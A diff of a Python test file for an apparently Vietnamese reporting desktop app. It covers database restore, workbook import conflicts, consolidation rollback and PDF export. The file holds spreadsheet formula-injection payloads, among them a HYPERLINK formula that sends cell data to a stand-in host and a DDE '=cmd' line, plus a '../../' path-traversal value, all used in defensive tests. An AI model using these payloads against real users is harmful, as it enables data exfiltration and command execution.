@@ -7,12 +7,14 @@ accepted is lost, and the clerk is told why in Vietnamese.
 from __future__ import annotations
 
 import json
+import multiprocessing
 import os
 import stat
 import zipfile
 
 import pytest
 from conftest import catalog_of, new_report
+from pathlib import Path
 from openpyxl import load_workbook
 
 from desktop.exchange.interchange import export_report, import_report, read_document
@@ -21,6 +23,17 @@ from desktop.foundation.messages import CchcError
 from desktop.report.ops import enter_cells
 from desktop.store.db import Store
 from test_export_xlsx import FORM_5B, _fill, _report
+
+def _import_in_a_process(db: str, forms: str, report: int, workbook: str, outcome) -> None:
+    from desktop.registry import load_catalog
+
+    try:
+        with Store.open(db, daily_backup=False) as store:
+            import_xlsx(store, load_catalog(Path(forms)), report, Path(workbook))
+        outcome.put("ok")
+    except CchcError as error:
+        outcome.put(error.code)
+
 
 HOSTILE_TEXTS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '=WEBSERVICE("http://x.invalid")',
                  "=cmd|' /C calc'!A0", "=1+1"]
@@ -197,3 +210,142 @@ def test_a_scratch_store_in_memory_leaves_no_backup_folder_behind(tmp_path, monk
         scratch.add_unit("H1", "Huyện Thử", "huyen")
         assert scratch.backup("truoc-nhap") is None
     assert list(tmp_path.iterdir()) == []
+
+
+def test_restore_never_replaces_a_healthy_database_unasked_nor_deletes_its_wal(tmp_path, capsys):
+    from conftest import cli
+    from desktop.store.db import restore_latest
+
+    path = tmp_path / "data.db"
+    store = Store.open(path, user="kiemthu")
+    store.add_unit("H1", "Huyện Thử", "huyen")
+    store.backup("thu")
+    store.add_unit("H2", "Huyện Sau", "huyen")  # committed after the backup, still in the -wal
+    assert (tmp_path / "data.db-wal").stat().st_size > 0
+    with pytest.raises(CchcError) as refused:
+        restore_latest(path)
+    assert refused.value.code == "STORE019" and (tmp_path / "data.db-wal").exists()
+    code, _ = cli("--db", str(path), "restore")
+    assert code == 2 and "--force" in capsys.readouterr().err
+    store.close()
+    with Store.open(path, daily_backup=False) as reopened:
+        assert [u.code for u in reopened.units()] == ["H1", "H2"]
+        reopened.conn.execute("PRAGMA wal_checkpoint(PASSIVE)")
+    store = Store.open(path, daily_backup=False)
+    store.add_unit("H3", "Huyện Ba", "huyen")  # in the -wal when the clerk forces the restore
+    restore_latest(path, force=True)
+    store.close()
+    [aside] = [p for p in tmp_path.iterdir() if p.name.startswith("data.db.thay-")
+               and not p.name.endswith(("-wal", "-shm"))]
+    with Store.open(aside, daily_backup=False, read_only=True) as kept:
+        assert [u.code for u in kept.units()] == ["H1", "H2", "H3"]  # nothing committed was lost
+    with Store.open(path, daily_backup=False) as restored:
+        assert [u.code for u in restored.units()] == ["H1"]
+
+
+def test_a_workbook_made_before_the_figures_changed_is_not_imported_over_them(tmp_path, store):
+    catalog, report = _report(tmp_path, store)
+    _fill(store, catalog, report)
+    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
+    book = load_workbook(path)
+    book["Biểu mẫu 5B"]["E12"] = 1600
+    book.save(path)
+    enter_cells(store, catalog, report, "5B", [("I", "ky_truoc", "41")])  # typed in the app meanwhile
+    before = store.cells(report)
+    with pytest.raises(CchcError) as refused:
+        import_xlsx(store, catalog, report, path)
+    assert refused.value.code == "XLSX010" and store.cells(report) == before
+
+
+def test_two_imports_of_the_same_report_at_once_never_mix(tmp_path):
+    """Two clerks import two edited copies of one workbook at the same moment: one goes in whole,
+    the other is refused; no total ends up unequal to its parts."""
+    catalog = catalog_of(tmp_path, {"5b.yaml": FORM_5B})
+    db = tmp_path / "data.db"
+    with Store.open(db, daily_backup=False) as store:
+        report = new_report(store, communes=2)
+        _fill(store, catalog, report)
+        first = write_xlsx(store, catalog, report, tmp_path / "a.xlsx")
+    second = tmp_path / "b.xlsx"
+    second.write_bytes(first.read_bytes())
+    for path, value in ((first, 1600), (second, 1700)):
+        book = load_workbook(path)
+        book["Biểu mẫu 5B"]["E12"] = value
+        book.save(path)
+    context = multiprocessing.get_context("spawn")
+    outcome = context.Queue()
+    workers = [context.Process(target=_import_in_a_process,
+                               args=(str(db), str(tmp_path / "forms"), report, str(path), outcome))
+               for path in (first, second)]
+    for worker in workers:
+        worker.start()
+    for worker in workers:
+        worker.join(120)
+    results = sorted(outcome.get(timeout=5) for _ in workers)
+    assert results == ["XLSX010", "ok"]
+    with Store.open(db, daily_backup=False) as store:
+        cells = store.cells(report)["5B"]
+    moi = int(cells["unit:H1.X1"]["moi"])
+    assert moi in (1600, 1700) and int(cells["unit:H1.X1"]["tong"]) == moi
+    assert int(cells["II"]["moi"]) == moi and int(cells["tong_cong"]["tong"]) == 100 + 10 + moi
+
+
+def test_a_consolidation_stopped_midway_keeps_no_submission_without_its_figures(tmp_path, monkeypatch):
+    from test_signing import DISTRICT, FORM, PASS, commune_report
+
+    from conftest import write_set
+    from desktop.registry import load_catalog
+    from desktop.submission import consolidate as consolidation
+    from desktop.submission.identity import create_self_signed, load_p12
+    from desktop.submission.package import sign_report
+    from desktop.submission.workflow import mark_checked
+
+    root = tmp_path / "forms"
+    write_set(root, {"kq.yaml": FORM}, set_id="xa", level="xa")
+    write_set(root, {"th.yaml": DISTRICT}, set_id="huyen")
+    catalog = load_catalog(root)
+    packages = tmp_path / "goi"
+    with Store.open(tmp_path / "xa.db") as commune, load_p12(create_self_signed("H1.X1", "Xã", PASS), PASS) as me:
+        report = commune_report(commune, catalog)
+        mark_checked(commune, catalog, report, acknowledge_warnings=True)
+        sign_report(commune, catalog, report, me, packages)
+    with Store.open(tmp_path / "huyen.db") as store:
+        district = new_report(store, "huyen", communes=1)
+
+        def power_cut(*args, **kwargs):
+            raise OSError("mất điện")
+
+        monkeypatch.setattr(consolidation, "write_cells", power_cut)
+        with pytest.raises(OSError):
+            consolidation.consolidate(store, catalog, district, [packages])
+        assert store.submissions() == [] and store.cells(district) == {}
+        monkeypatch.undo()
+        result = consolidation.consolidate(store, catalog, district, [packages])
+        assert [r.status for r in result.received] == ["accepted"] and len(store.submissions()) == 1
+        assert store.cells(district)["TH"]["unit:H1.X1"]["tong"] == "10"
+
+
+def test_a_package_name_is_always_one_plain_file_name():
+    from desktop.submission.package import package_filename
+
+    name = package_filename({"unit": {"code": "../../PWNED"}, "period": {"year": 2020, "type": "nam"},
+                             "report_version": 1})
+    assert "/" not in name and "\\\\" not in name and not name.startswith(".") and name.endswith(".cchc")
+
+
+def test_the_longest_texts_a_report_takes_still_print(tmp_path, store):
+    """A note of 4.000 characters in one cell made a table row taller than a page, and the whole
+    PDF export stopped (LayoutError); the longest subject prints too."""
+    import io
+
+    import pypdf
+
+    from desktop.exchange.pdf import write_pdf
+
+    catalog, report = _report(tmp_path, store)
+    _fill(store, catalog, report)
+    store.update_report(report, subject="Báo cáo tình hình " * 110)  # under the 2.000-character limit
+    enter_cells(store, catalog, report, "5B", [("unit:H1.X1", "ghi_chu", "ghi chú dài " * 333)])  # ~4.000
+    path = write_pdf(store, catalog, report, tmp_path / "bc.pdf")
+    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(path.read_bytes())).pages)
+    assert "[…]" in text and "Xã 2" in text
